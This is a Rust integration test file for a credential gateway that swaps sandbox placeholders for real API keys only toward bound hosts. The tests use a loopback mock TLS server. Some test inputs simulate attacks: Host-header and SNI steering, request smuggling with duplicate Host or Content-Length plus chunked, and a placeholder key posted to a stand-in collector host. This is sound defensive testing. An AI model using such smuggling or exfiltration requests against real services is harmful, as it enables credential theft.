//! The credential gateway attacked for real: a mock upstream HTTPS server with its own test CA on
//! loopback records every byte it receives; clients (rustls, and curl through a CONNECT proxy)
//! talk to it through the gateway with the jail's placeholder.

use std::net::SocketAddr;
use std::path::Path;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::{Arc, Mutex};

use base64::Engine as _;
use corral_audit::{AuditLog, Decision, Event};
use corral_gateway::{AuditSink, Gateway, GatewayConfig, JailTrust, Prefixed, RequestHead};
use corral_http1::io::{BufConn, relay_body};
use corral_http1::{Framing, ResponseHead, parse_request_head, parse_response_head};
use corral_policy::domain::{DomainPattern, Host};
use corral_policy::plan::SecretPlan;
use rustls::RootCertStore;
use rustls::pki_types::{CertificateDer, PrivateKeyDer, PrivatePkcs8KeyDer, ServerName};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpListener, TcpStream};

const BOUND: &str = "api.model.test";
const OTHER_BOUND: &str = "api.other.test";
const REAL: &str = "sk-ant-api03-REALvalueREALvalueREALvalue0123456789";
const REAL2: &str = "ghp_SECONDrealSECONDrealSECONDreal99";
const T: std::time::Duration = std::time::Duration::from_secs(20);

/// The next request head on `c`, `None` at the end.
async fn read_req<S: tokio::io::AsyncRead + Unpin>(c: &mut BufConn<S>) -> Option<RequestHead> {
    let head = c.read_head(T, T).await.ok()??;
    parse_request_head(&head).ok()
}

/// The next response head on `c`.
async fn read_resp<S: tokio::io::AsyncRead + Unpin>(c: &mut BufConn<S>) -> ResponseHead {
    let head = c.read_head(T, T).await.unwrap().unwrap();
    parse_response_head(&head).unwrap()
}

/// One body, decoded.
async fn read_body<S: tokio::io::AsyncRead + Unpin>(c: &mut BufConn<S>, f: Framing) -> Vec<u8> {
    let mut out = Vec::new();
    relay_body(c, &mut out, (f, Framing::UntilClose), T, None)
        .await
        .unwrap();
    out
}

fn get<'a>(headers: &'a [corral_http1::Header], name: &str) -> Option<&'a [u8]> {
    corral_http1::header_values(headers, name).next()
}

fn provider() -> Arc<rustls::crypto::CryptoProvider> {
    Arc::new(rustls::crypto::ring::default_provider())
}

/// The mock upstream: TLS for BOUND and OTHER_BOUND with its own CA, records raw bytes.
struct Upstream {
    addr: SocketAddr,
    roots: RootCertStore,
    seen: Arc<Mutex<Vec<u8>>>,
}

impl Upstream {
    fn seen(&self) -> String {
        String::from_utf8_lossy(&self.seen.lock().unwrap()).into_owned()
    }
}

async fn upstream() -> Upstream {
    let ca_key = rcgen::KeyPair::generate().unwrap();
    let mut ca = rcgen::CertificateParams::default();
    ca.is_ca = rcgen::IsCa::Ca(rcgen::BasicConstraints::Unconstrained);
    ca.key_usages = vec![rcgen::KeyUsagePurpose::KeyCertSign];
    let ca = ca.self_signed(&ca_key).unwrap();
    let key = rcgen::KeyPair::generate().unwrap();
    let leaf = rcgen::CertificateParams::new(vec![BOUND.into(), OTHER_BOUND.into()])
        .unwrap()
        .signed_by(&key, &ca, &ca_key)
        .unwrap();
    let mut roots = RootCertStore::empty();
    roots.add(ca.der().clone()).unwrap();
    let mut cfg = rustls::ServerConfig::builder_with_provider(provider())
        .with_safe_default_protocol_versions()
        .unwrap()
        .with_no_client_auth()
        .with_single_cert(
            vec![leaf.der().clone()],
            PrivateKeyDer::Pkcs8(PrivatePkcs8KeyDer::from(key.serialize_der())),
        )
        .unwrap();
    cfg.alpn_protocols = vec![b"http/1.1".to_vec()];
    let acceptor = tokio_rustls::TlsAcceptor::from(Arc::new(cfg));
    let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = listener.local_addr().unwrap();
    let seen = Arc::new(Mutex::new(Vec::new()));
    let seen2 = seen.clone();
    tokio::spawn(async move {
        while let Ok((tcp, _)) = listener.accept().await {
            let acceptor = acceptor.clone();
            let seen = seen2.clone();
            tokio::spawn(async move {
                let Ok(tls) = acceptor.accept(tcp).await else {
                    return;
                };
                serve_mock(tls, seen).await;
            });
        }
    });
    Upstream { addr, roots, seen }
}

/// Answers each request with 200 and a body naming the path; a websocket upgrade gets 101 and
/// then answers each frame: `reflect` with a frame holding the real value (an origin echoing a
/// credential back), `reflect masked` with the same frame masked, anything else with an echo.
/// Everything received is appended to `seen`.
async fn serve_mock<S>(io: S, seen: Arc<Mutex<Vec<u8>>>)
where
    S: tokio::io::AsyncRead + tokio::io::AsyncWrite + Unpin,
{
    let mut conn = BufConn::new(io);
    loop {
        let Some(head) = read_req(&mut conn).await else {
            return;
        };
        seen.lock().unwrap().extend_from_slice(&head.to_bytes());
        let mut body = Vec::new();
        let f = head.framing;
        if relay_body(&mut conn, &mut body, (f, f), T, None)
            .await
            .is_err()
        {
            return;
        }
        seen.lock().unwrap().extend_from_slice(&body);
        if get(&head.headers, "upgrade").is_some() {
            let _ = conn
                .io
                .write_all(b"HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n\r\n")
                .await;
            while let Some((opcode, payload)) = read_frame(&mut conn).await {
                seen.lock().unwrap().extend_from_slice(&payload);
                let reply = match payload.as_slice() {
                    b"reflect" => ws_frame(1, format!("your key is {REAL}!").as_bytes(), None),
                    b"reflect masked" => ws_frame(2, REAL.as_bytes(), Some([1, 2, 3, 4])),
                    _ => ws_frame(opcode, &payload, None),
                };
                if conn.io.write_all(&reply).await.is_err() {
                    return;
                }
                let _ = conn.io.flush().await;
            }
            return;
        }
        let text = format!("hello from {}", head.target);
        let resp = format!(
            "HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\nContent-Length: {}\r\n\r\n{text}",
            text.len()
        );
        if conn.io.write_all(resp.as_bytes()).await.is_err() {
            return;
        }
        let _ = conn.io.flush().await;
    }
}

/// One websocket frame with FIN set (RFC 6455 §5.2), masked with `mask` if given.
fn ws_frame(opcode: u8, payload: &[u8], mask: Option<[u8; 4]>) -> Vec<u8> {
    let mut f = vec![0x80 | opcode];
    let m = if mask.is_some() { 0x80 } else { 0 };
    if payload.len() < 126 {
        f.push(m | payload.len() as u8);
    } else {
        f.push(m | 126);
        f.extend_from_slice(&(payload.len() as u16).to_be_bytes());
    }
    let key = mask.unwrap_or([0; 4]);
    if mask.is_some() {
        f.extend_from_slice(&key);
    }
    f.extend(payload.iter().enumerate().map(|(i, b)| b ^ key[i % 4]));
    f
}

/// The next websocket frame on `c` (lengths up to 16 bits), unmasked: its opcode and payload.
async fn read_frame<S: tokio::io::AsyncRead + Unpin>(c: &mut BufConn<S>) -> Option<(u8, Vec<u8>)> {
    let head = c.read_exact_buf(2, T).await.ok()?;
    let (opcode, masked, len7) = (head[0] & 0x0f, head[1] & 0x80 != 0, head[1] & 0x7f);
    let len = match len7 {
        126 => {
            let l = c.read_exact_buf(2, T).await.ok()?;
            usize::from(u16::from_be_bytes([l[0], l[1]]))
        }
        127 => return None,
        n => usize::from(n),
    };
    let key = if masked {
        let k = c.read_exact_buf(4, T).await.ok()?;
        [k[0], k[1], k[2], k[3]]
    } else {
        [0; 4]
    };
    let payload = c.read_exact_buf(len, T).await.ok()?;
    Some((
        opcode,
        payload
            .iter()
            .enumerate()
            .map(|(i, b)| b ^ key[i % 4])
            .collect(),
    ))
}

fn secret(name: &str, host: &str) -> SecretPlan {
    SecretPlan {
        name: name.into(),
        from_env: format!("CALLER_{name}"),
        hosts: vec![DomainPattern::parse(host).unwrap()],
    }
}

struct Setup {
    gw: Gateway,
    trust: JailTrust,
    up: Upstream,
    audit: AuditLog,
    _dir: tempfile::TempDir,
}

async fn setup() -> Setup {
    let up = upstream().await;
    let dir = tempfile::tempdir().unwrap();
    let audit = AuditLog::at(dir.path().join("audit.jsonl"));
    let (gw, trust) = Gateway::new(
        vec![
            (secret("ANTHROPIC_API_KEY", BOUND), REAL.into()),
            (secret("GITHUB_TOKEN", OTHER_BOUND), REAL2.into()),
        ],
        GatewayConfig {
            upstream_roots: Some(up.roots.clone()),
            trust_dir: dir.path().join("trust"),
            system_bundle: None,
            audit: Some(AuditSink {
                log: audit.clone(),
                jail: "test-jail".into(),
            }),
        },
    )
    .unwrap();
    Setup {
        gw,
        trust,
        up,
        audit,
        _dir: dir,
    }
}

/// A stand-in for the proxy: accepts `CONNECT host:port`, answers 200, hands the stream to the
/// gateway with the upstream's real address as the checked address. Returns its address and
/// how many connections the gateway finished with an error.
async fn proxy(gw: Gateway, upstream: SocketAddr) -> (SocketAddr, Arc<AtomicUsize>) {
    proxy_with(gw, upstream, false).await
}

/// `over`: the proxy dials the upstream itself and hands the connected stream (and any bytes
/// the client sent after its CONNECT) to `intercept_over`, as corral-net does.
async fn proxy_with(
    gw: Gateway,
    upstream: SocketAddr,
    over: bool,
) -> (SocketAddr, Arc<AtomicUsize>) {
    let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = listener.local_addr().unwrap();
    let errors = Arc::new(AtomicUsize::new(0));
    let errors2 = errors.clone();
    tokio::spawn(async move {
        while let Ok((tcp, peer)) = listener.accept().await {
            let gw = gw.clone();
            let errors = errors2.clone();
            tokio::spawn(async move {
                let mut conn = BufConn::new(tcp);
                let Some(head) = read_req(&mut conn).await else {
                    return;
                };
                assert_eq!(head.method, "CONNECT");
                let (host, port) = head.target.rsplit_once(':').unwrap();
                let host = Host::Name(host.to_string());
                let port: u16 = port.parse().unwrap();
                conn.io
                    .write_all(b"HTTP/1.1 200 Connection established\r\n\r\n")
                    .await
                    .unwrap();
                let result = if over {
                    let up = TcpStream::connect(upstream).await.unwrap();
                    let client = Prefixed::new(conn.buf.to_vec(), conn.io);
                    gw.intercept_over(client, up, &host, port, upstream, &peer.to_string())
                        .await
                } else {
                    assert!(conn.buf.is_empty());
                    gw.intercept(conn.io, &host, port, upstream, &peer.to_string())
                        .await
                };
                if result.is_err() {
                    errors.fetch_add(1, Ordering::SeqCst);
                }
            });
        }
    });
    (addr, errors)
}

/// A TLS client that trusts the jail's CA file only and opens a CONNECT tunnel with `sni`.
async fn client(
    trust: &JailTrust,
    proxy: SocketAddr,
    connect_host: &str,
    sni: &str,
) -> std::io::Result<tokio_rustls::client::TlsStream<TcpStream>> {
    let mut roots = RootCertStore::empty();
    let der = pem_to_der(&trust.ca_pem);
    roots.add(der).unwrap();
    let cfg = rustls::ClientConfig::builder_with_provider(provider())
        .with_safe_default_protocol_versions()
        .unwrap()
        .with_root_certificates(roots)
        .with_no_client_auth();
    let mut tcp = TcpStream::connect(proxy).await?;
    tcp.write_all(
        format!("CONNECT {connect_host}:443 HTTP/1.1\r\nHost: {connect_host}:443\r\n\r\n")
            .as_bytes(),
    )
    .await?;
    let mut buf = [0u8; 39];
    tcp.read_exact(&mut buf).await?;
    assert_eq!(&buf[..], b"HTTP/1.1 200 Connection established\r\n\r\n");
    tokio_rustls::TlsConnector::from(Arc::new(cfg))
        .connect(ServerName::try_from(sni.to_string()).unwrap(), tcp)
        .await
}

fn pem_to_der(pem: &str) -> CertificateDer<'static> {
    let b64: String = pem.lines().filter(|l| !l.starts_with("-----")).collect();
    CertificateDer::from(
        base64::engine::general_purpose::STANDARD
            .decode(b64)
            .unwrap(),
    )
}

/// Send one request and read one response.
async fn roundtrip<S>(conn: &mut BufConn<S>, req: &str) -> (u16, String)
where
    S: tokio::io::AsyncRead + tokio::io::AsyncWrite + Unpin,
{
    conn.io.write_all(req.as_bytes()).await.unwrap();
    conn.io.flush().await.unwrap();
    let resp = read_resp(conn).await;
    let f = corral_http1::response_framing(&resp, "GET").unwrap();
    let body = read_body(conn, f).await;
    (resp.status, String::from_utf8_lossy(&body).into_owned())
}

fn records(audit: &AuditLog) -> Vec<corral_audit::NetEvent> {
    let (recs, _) = audit.read_all().unwrap();
    recs.into_iter()
        .filter_map(|r| match r.event {
            Event::Net(n) => Some(n),
            _ => None,
        })
        .collect()
}

fn assert_no_real_value_in_audit(s: &Setup) {
    let raw = std::fs::read_to_string(s.audit.path()).unwrap_or_default();
    assert!(
        !raw.contains(REAL) && !raw.contains(REAL2),
        "real value in audit log: {raw}"
    );
}

#[tokio::test]
async fn placeholder_in_credential_headers_becomes_the_real_value_upstream() {
    let s = setup().await;
    let ph = s.trust.env["ANTHROPIC_API_KEY"].clone();
    assert_eq!(s.gw.placeholder("ANTHROPIC_API_KEY"), Some(ph.as_str()));
    assert_ne!(ph, REAL);
    assert_eq!(ph.len(), REAL.len());
    assert!(ph.starts_with("sk-ant-api03-"));

    let (paddr, errors) = proxy(s.gw.clone(), s.up.addr).await;
    let tls = client(&s.trust, paddr, BOUND, BOUND).await.unwrap();
    assert_eq!(tls.get_ref().1.alpn_protocol(), None);
    let mut c = BufConn::new(tls);
    // Bearer, x-api-key, and Basic (user:placeholder) on one keep-alive connection.
    let (st, body) = roundtrip(
        &mut c,
        &format!("GET /v1/models HTTP/1.1\r\nHost: {BOUND}\r\nAuthorization: Bearer {ph}\r\n\r\n"),
    )
    .await;
    assert_eq!((st, body.as_str()), (200, "hello from /v1/models"));
    let (st, _) = roundtrip(
        &mut c,
        &format!(
            "POST /v1/messages HTTP/1.1\r\nHost: {BOUND}\r\nx-api-key: {ph}\r\nTransfer-Encoding: chunked\r\n\r\n5\r\nhello\r\n0\r\n\r\n"
        ),
    )
    .await;
    assert_eq!(st, 200);
    let basic = base64::engine::general_purpose::STANDARD.encode(format!("user:{ph}"));
    let (st, _) = roundtrip(
        &mut c,
        &format!(
            "GET /basic HTTP/1.1\r\nHost: {BOUND}:443\r\nAuthorization: Basic {basic}\r\n\r\n"
        ),
    )
    .await;
    assert_eq!(st, 200);

    let seen = s.up.seen();
    assert!(
        seen.contains(&format!("Authorization: Bearer {REAL}\r\n")),
        "{seen}"
    );
    assert!(seen.contains(&format!("x-api-key: {REAL}\r\n")), "{seen}");
    let real_basic = base64::engine::general_purpose::STANDARD.encode(format!("user:{REAL}"));
    assert!(
        seen.contains(&format!("Authorization: Basic {real_basic}\r\n")),
        "{seen}"
    );
    assert!(
        seen.contains("5\r\nhello\r\n0\r\n\r\n"),
        "chunked body relayed: {seen}"
    );
    assert!(
        !seen.contains(&ph),
        "the placeholder reached the upstream: {seen}"
    );
    assert_eq!(errors.load(Ordering::SeqCst), 0);

    let recs = records(&s.audit);
    let injected: Vec<_> = recs
        .iter()
        .filter(|r| r.decision == Some(Decision::Allow))
        .collect();
    assert_eq!(injected.len(), 3, "{recs:?}");
    assert!(
        injected
            .iter()
            .all(|r| r.secret.as_deref() == Some("ANTHROPIC_API_KEY")
                && r.host == BOUND
                && r.address.as_deref() == Some(&*s.up.addr.to_string()))
    );
    assert!(
        injected[0]
            .rule
            .contains("injected into authorization for GET /v1/models"),
        "{:?}",
        injected[0]
    );
    assert_no_real_value_in_audit(&s);
}

#[tokio::test]
async fn curl_through_a_connect_proxy_trusting_the_jail_bundle() {
    if std::process::Command::new("curl")
        .arg("--version")
        .output()
        .is_err()
    {
        eprintln!("skipping: no curl binary");
        return;
    }
    let s = setup().await;
    let ph = s.trust.env["ANTHROPIC_API_KEY"].clone();
    let (paddr, _) = proxy_with(s.gw.clone(), s.up.addr, true).await;
    let trust = s.trust.clone();
    let out = tokio::task::spawn_blocking(move || {
        std::process::Command::new("curl")
            .args(["-sS", "--noproxy", "", "--proxy"])
            .arg(format!("http://{paddr}"))
            .arg("--cacert")
            .arg(&trust.bundle_file)
            .args(["-H", &format!("Authorization: Bearer {ph}")])
            .arg(format!("https://{BOUND}/from-curl?q=1"))
            .env_remove("HTTPS_PROXY")
            .env_remove("https_proxy")
            .output()
            .unwrap()
    })
    .await
    .unwrap();
    assert!(
        out.status.success(),
        "curl: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert_eq!(
        String::from_utf8_lossy(&out.stdout),
        "hello from /from-curl?q=1"
    );
    let seen = s.up.seen();
    assert!(
        seen.contains(&format!("Authorization: Bearer {REAL}")),
        "{seen}"
    );
    // The audit names the path without its query.
    let recs = records(&s.audit);
    assert!(
        recs.iter().any(|r| r.rule.ends_with("GET /from-curl")),
        "{recs:?}"
    );
}

#[tokio::test]
async fn sni_that_differs_from_the_connect_host_is_refused() {
    let s = setup().await;
    let (paddr, errors) = proxy(s.gw.clone(), s.up.addr).await;
    // CONNECT to the bound host, TLS SNI naming another (bound) host: refused at the handshake,
    // so the secret cannot be steered by SNI.
    let r = client(&s.trust, paddr, BOUND, OTHER_BOUND).await;
    assert!(r.is_err(), "handshake with a foreign SNI succeeded");
    let r = client(&s.trust, paddr, BOUND, "evil.example.com").await;
    assert!(r.is_err());
    // Let the proxy tasks finish and record.
    for _ in 0..100 {
        if errors.load(Ordering::SeqCst) >= 2 {
            break;
        }
        tokio::time::sleep(std::time::Duration::from_millis(20)).await;
    }
    assert_eq!(s.up.seen(), "", "nothing may reach the upstream");
    let recs = records(&s.audit);
    assert!(
        recs.iter().any(|r| r.decision == Some(Decision::Deny)
            && r.rule.contains(&format!(
                "TLS SNI {OTHER_BOUND} does not match the CONNECT host {BOUND}"
            ))),
        "{recs:?}"
    );
}

#[tokio::test]
async fn host_header_that_differs_from_the_connect_host_is_refused() {
    let s = setup().await;
    let ph = s.trust.env["ANTHROPIC_API_KEY"].clone();
    let (paddr, _) = proxy(s.gw.clone(), s.up.addr).await;
    for bad_host in [
        "evil.example.com",
        OTHER_BOUND,
        "api.model.test:444",
        "api.model.test.evil.com",
    ] {
        let tls = client(&s.trust, paddr, BOUND, BOUND).await.unwrap();
        let mut c = BufConn::new(tls);
        let (st, body) = roundtrip(
            &mut c,
            &format!("GET / HTTP/1.1\r\nHost: {bad_host}\r\nAuthorization: Bearer {ph}\r\n\r\n"),
        )
        .await;
        assert_eq!(st, 421, "Host {bad_host}: {body}");
        assert!(body.contains("does not match the destination"), "{body}");
    }
    // Two Host headers, no Host, a nested CONNECT, an absolute-form target: all refused.
    for (req, want) in [
        (
            format!("GET / HTTP/1.1\r\nHost: {BOUND}\r\nHost: evil.example.com\r\n\r\n"),
            400,
        ),
        ("GET / HTTP/1.1\r\nX: y\r\n\r\n".to_string(), 400),
        (
            format!("CONNECT evil.example.com:443 HTTP/1.1\r\nHost: {BOUND}\r\n\r\n"),
            405,
        ),
        (
            format!("GET https://evil.example.com/ HTTP/1.1\r\nHost: {BOUND}\r\n\r\n"),
            400,
        ),
        (
            format!(
                "POST / HTTP/1.1\r\nHost: {BOUND}\r\nContent-Length: 1\r\nTransfer-Encoding: chunked\r\n\r\n"
            ),
            400,
        ),
    ] {
        let tls = client(&s.trust, paddr, BOUND, BOUND).await.unwrap();
        let mut c = BufConn::new(tls);
        let (st, _) = roundtrip(&mut c, &req).await;
        assert_eq!(st, want, "{req:?}");
    }
    assert_eq!(s.up.seen(), "", "a refused request reached the upstream");
    let recs = records(&s.audit);
    assert!(
        recs.iter().all(|r| r.decision == Some(Decision::Deny)),
        "{recs:?}"
    );
    assert!(recs.len() >= 9, "{recs:?}");
}

#[tokio::test]
async fn placeholder_for_another_host_stays_a_placeholder_and_is_audited() {
    let s = setup().await;
    let ph_github = s.trust.env["GITHUB_TOKEN"].clone();
    let ph_model = s.trust.env["ANTHROPIC_API_KEY"].clone();
    let (paddr, _) = proxy(s.gw.clone(), s.up.addr).await;
    // GITHUB_TOKEN is bound to OTHER_BOUND only: sent to BOUND it must not be swapped.
    let tls = client(&s.trust, paddr, BOUND, BOUND).await.unwrap();
    let mut c = BufConn::new(tls);
    let (st, _) = roundtrip(
        &mut c,
        &format!("GET /x HTTP/1.1\r\nHost: {BOUND}\r\nAuthorization: token {ph_github}\r\n\r\n"),
    )
    .await;
    assert_eq!(st, 200);
    // The bound placeholder in a non-credential header, the URL, and the body: left alone.
    let body = format!("{{\"key\":\"{ph_model}\"}}");
    let (st, _) = roundtrip(
        &mut c,
        &format!(
            "POST /y?key={ph_model} HTTP/1.1\r\nHost: {BOUND}\r\nX-Debug: {ph_model}\r\nContent-Length: {}\r\n\r\n{body}",
            body.len()
        ),
    )
    .await;
    assert_eq!(st, 200);
    let seen = s.up.seen();
    assert!(
        seen.contains(&format!("Authorization: token {ph_github}")),
        "{seen}"
    );
    assert!(
        !seen.contains(REAL2) && !seen.contains(REAL),
        "a real value leaked: {seen}"
    );
    assert!(seen.contains(&format!("/y?key={ph_model}")));
    assert!(seen.contains(&format!("X-Debug: {ph_model}")));
    assert!(seen.contains(&body));

    let recs = records(&s.audit);
    let gh: Vec<_> = recs
        .iter()
        .filter(|r| r.secret.as_deref() == Some("GITHUB_TOKEN"))
        .collect();
    assert_eq!(gh.len(), 1, "{recs:?}");
    assert_eq!(gh[0].decision, Some(Decision::Deny));
    assert!(
        gh[0].rule.contains("placeholder sent to unbound host"),
        "{:?}",
        gh[0]
    );
    assert_eq!(gh[0].host, BOUND);
    let left: Vec<_> = recs
        .iter()
        .filter(|r| r.secret.as_deref() == Some("ANTHROPIC_API_KEY"))
        .map(|r| r.rule.as_str())
        .collect();
    assert!(
        left.iter()
            .any(|r| r.contains("non-credential header x-debug")),
        "{left:?}"
    );
    assert!(
        left.iter().any(|r| r.contains("in the URL not replaced")),
        "{left:?}"
    );
    assert!(
        left.iter().all(|r| !r.contains("?key")),
        "query logged: {left:?}"
    );
    assert_no_real_value_in_audit(&s);
}

fn plain(req: &str) -> RequestHead {
    parse_request_head(req.as_bytes()).unwrap()
}

#[tokio::test]
async fn plain_http_rewrite_swaps_on_bound_hosts_and_audits_elsewhere() {
    let s = setup().await;
    let ph = s.trust.env["ANTHROPIC_API_KEY"].clone();
    let bound = Host::Name(BOUND.into());
    // The secret names BOUND without a port: never swapped into clear text to port 80.
    let mut head = plain(&format!(
        "POST http://{BOUND}/v1/chat/completions HTTP/1.1\r\nHost: {BOUND}\r\nAuthorization: Bearer {ph}\r\n\r\n"
    ));
    let before = head.clone();
    let report = s.gw.rewrite_plain(&mut head, &bound, 80, "jail").unwrap();
    assert_eq!(head, before);
    assert!(report.injected.is_empty());
    assert!(
        report.left[0]
            .1
            .contains("placeholder over plain HTTP not replaced"),
        "{report:?}"
    );

    // A secret whose hosts name the port explicitly is swapped over plain HTTP.
    let dir = tempfile::tempdir().unwrap();
    let (gw, trust) = Gateway::new(
        vec![(secret("LOCAL_KEY", &format!("{BOUND}:8080")), REAL.into())],
        GatewayConfig {
            upstream_roots: Some(RootCertStore::empty()),
            trust_dir: dir.path().join("trust"),
            system_bundle: None,
            audit: None,
        },
    )
    .unwrap();
    let ph_local = trust.env["LOCAL_KEY"].clone();
    let mut head = plain(&format!(
        "POST http://{BOUND}:8080/v1/chat/completions HTTP/1.1\r\nHost: {BOUND}:8080\r\nAuthorization: Bearer {ph_local}\r\n\r\n"
    ));
    let report = gw.rewrite_plain(&mut head, &bound, 8080, "jail").unwrap();
    assert_eq!(
        report.injected,
        vec![("LOCAL_KEY".to_string(), "authorization".to_string())]
    );
    assert_eq!(
        get(&head.headers, "authorization"),
        Some(format!("Bearer {REAL}").as_bytes())
    );
    // The same secret on another port of that host: not swapped.
    let mut head = plain(&format!(
        "GET http://{BOUND}:8081/ HTTP/1.1\r\nHost: {BOUND}:8081\r\nAuthorization: Bearer {ph_local}\r\n\r\n"
    ));
    let report = gw.rewrite_plain(&mut head, &bound, 8081, "jail").unwrap();
    assert!(report.injected.is_empty(), "{report:?}");

    // To an unbound host the placeholder goes through untouched (useless) and is audited.
    let other = Host::Name("collector.evil.test".into());
    let mut head = plain(&format!(
        "POST http://collector.evil.test/ HTTP/1.1\r\nHost: collector.evil.test\r\nx-api-key: {ph}\r\n\r\n"
    ));
    let before = head.clone();
    let report = s.gw.rewrite_plain(&mut head, &other, 80, "jail").unwrap();
    assert_eq!(head, before);
    assert!(report.injected.is_empty());
    assert_eq!(report.left.len(), 1);
    let recs = records(&s.audit);
    let r = recs
        .iter()
        .find(|r| r.host == "collector.evil.test")
        .expect("audited");
    assert_eq!(r.secret.as_deref(), Some("ANTHROPIC_API_KEY"));
    assert_eq!(r.decision, Some(Decision::Deny));
    assert!(r.rule.contains("placeholder sent to unbound host"), "{r:?}");

    // Host header pointing at the bound host while the proxy dials another: refused.
    let mut head = plain(&format!(
        "GET http://collector.evil.test/ HTTP/1.1\r\nHost: {BOUND}\r\nAuthorization: Bearer {ph}\r\n\r\n"
    ));
    let refusal =
        s.gw.rewrite_plain(&mut head, &other, 80, "jail")
            .unwrap_err();
    assert_eq!(refusal.status, 421);
    assert!(!String::from_utf8_lossy(&head.to_bytes()).contains(REAL));
    assert_no_real_value_in_audit(&s);
}

/// `head` (a request line and fields, `Host: BOUND` added) sent to BOUND through the gateway
/// (the proxy dialling the origin itself); the connection and the response head.
async fn ask_bound(
    s: &Setup,
    head: &str,
) -> (
    BufConn<tokio_rustls::client::TlsStream<TcpStream>>,
    ResponseHead,
) {
    let (paddr, _) = proxy_with(s.gw.clone(), s.up.addr, true).await;
    let mut tls = client(&s.trust, paddr, BOUND, BOUND).await.unwrap();
    let (line, fields) = head.split_once("\r\n").unwrap_or((head, ""));
    let fields = if fields.is_empty() {
        String::new()
    } else {
        format!("{fields}\r\n")
    };
    let head = format!("{line}\r\nHost: {BOUND}\r\n{fields}\r\n");
    tls.write_all(head.as_bytes()).await.unwrap();
    let mut c = BufConn::new(tls);
    let resp = read_resp(&mut c).await;
    (c, resp)
}

#[tokio::test]
async fn websocket_upgrade_is_swapped_then_spliced() {
    let s = setup().await;
    let ph = s.trust.env["ANTHROPIC_API_KEY"].clone();
    let (mut c, resp) = ask_bound(
        &s,
        &format!("GET /ws HTTP/1.1\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nAuthorization: Bearer {ph}"),
    )
    .await;
    assert_eq!(resp.status, 101);
    let key = Some([9, 8, 7, 6]);
    // Frames are opaque to the swap: a placeholder inside them is not touched. The second
    // message ends with the first byte of the real value: a stream scrubber held that byte
    // back until the origin's next message; the frame's end releases it.
    for text in [
        format!("frame with {ph}"),
        format!("ends like the key: {}", &REAL[..1]),
    ] {
        c.io.write_all(&ws_frame(1, text.as_bytes(), key))
            .await
            .unwrap();
        c.io.flush().await.unwrap();
        let (opcode, got) = read_frame(&mut c)
            .await
            .expect("the echo, whole, within 20 s");
        assert_eq!(
            (opcode, String::from_utf8_lossy(&got).into_owned()),
            (1, text)
        );
    }
    // The origin reflecting the real value, in a plain frame and in a masked one: the jail gets
    // the placeholder, cut or padded to the value's length so the frame stays valid.
    let same_len = |ph: &str| {
        let mut p = ph.as_bytes().to_vec();
        p.resize(REAL.len(), b'*');
        String::from_utf8(p).unwrap()
    };
    for (ask, want) in [
        ("reflect", format!("your key is {}!", same_len(&ph))),
        ("reflect masked", same_len(&ph)),
    ] {
        c.io.write_all(&ws_frame(1, ask.as_bytes(), key))
            .await
            .unwrap();
        c.io.flush().await.unwrap();
        let (_, got) = read_frame(&mut c).await.expect("the reflection");
        assert_eq!(String::from_utf8_lossy(&got), want);
    }
    let seen = s.up.seen();
    assert!(
        seen.contains(&format!("Authorization: Bearer {REAL}")),
        "{seen}"
    );
    assert!(seen.contains(&format!("frame with {ph}")), "{seen}");
    assert_no_real_value_in_audit(&s);
}

#[tokio::test]
async fn an_upgrade_to_anything_but_websocket_is_taken_off_the_request() {
    let s = setup().await;
    let ph = s.trust.env["ANTHROPIC_API_KEY"].clone();
    let (mut c, resp) = ask_bound(
        &s,
        &format!("GET /h2 HTTP/1.1\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAoAAAAAIAAAAA\r\nAuthorization: Bearer {ph}"),
    )
    .await;
    assert_eq!(resp.status, 200);
    let f = corral_http1::response_framing(&resp, "GET").unwrap();
    assert_eq!(read_body(&mut c, f).await, b"hello from /h2");
    let seen = s.up.seen();
    assert!(!seen.to_ascii_lowercase().contains("upgrade"), "{seen}");
    assert!(seen.contains("Connection: HTTP2-Settings\r\n"), "{seen}");
}

#[tokio::test]
async fn unbound_and_ip_literal_connects_are_not_intercepted() {
    let s = setup().await;
    let (a, _b) = tokio::io::duplex(1024);
    let err =
        s.gw.intercept(a, &Host::Name("example.org".into()), 443, s.up.addr, "jail")
            .await
            .unwrap_err();
    assert!(err.to_string().contains("not bound to any secret"), "{err}");
    let (a, _b) = tokio::io::duplex(1024);
    let err =
        s.gw.intercept(a, &Host::Ip(s.up.addr.ip()), 443, s.up.addr, "jail")
            .await
            .unwrap_err();
    assert!(err.to_string().contains("not bound to any secret"), "{err}");
}

#[test]
fn jail_trust_names_every_client_variable() {
    let rt = tokio::runtime::Runtime::new().unwrap();
    let s = rt.block_on(setup());
    let b = s.trust.bundle_file.display().to_string();
    let c = s.trust.ca_file.display().to_string();
    for (k, v) in [
        ("SSL_CERT_FILE", &b),
        ("NODE_EXTRA_CA_CERTS", &c),
        ("REQUESTS_CA_BUNDLE", &b),
        ("CURL_CA_BUNDLE", &b),
        ("GIT_SSL_CAINFO", &b),
        ("PIP_CERT", &b),
        ("NPM_CONFIG_CAFILE", &b),
        ("CARGO_HTTP_CAINFO", &b),
        ("DENO_CERT", &c),
    ] {
        assert_eq!(s.trust.env.get(k), Some(v), "{k}");
    }
    assert!(Path::new(&b).is_file() && Path::new(&c).is_file());
    assert!(s.trust.env.values().all(|v| v != REAL && v != REAL2));
    assert_eq!(
        s.trust.mounts[0].target,
        s.trust.bundle_file.parent().unwrap()
    );
}
